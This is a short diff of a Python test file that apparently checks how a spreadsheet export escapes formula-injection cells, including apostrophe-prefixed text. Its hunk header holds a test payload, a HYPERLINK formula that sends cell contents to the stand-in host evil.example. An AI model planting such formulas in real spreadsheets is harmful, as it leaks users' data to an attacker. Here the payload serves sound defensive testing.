@@ -38,7 +38,10 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the tables")'
         ("-4,310", "-4,310"),
         (-2, -2),
         (None, None),
-        ("'=already safe", "'=already safe"),
+        # Text that itself starts with an apostrophe before a formula character gets one
+        # more, so the import, which takes one off, reads every name back (issue 28, 12).
+        ("'=already safe", "''=already safe"),
+        ("'Allo 'Allo", "'Allo 'Allo"),
     ],
 )
 def test_cells(cell, written):
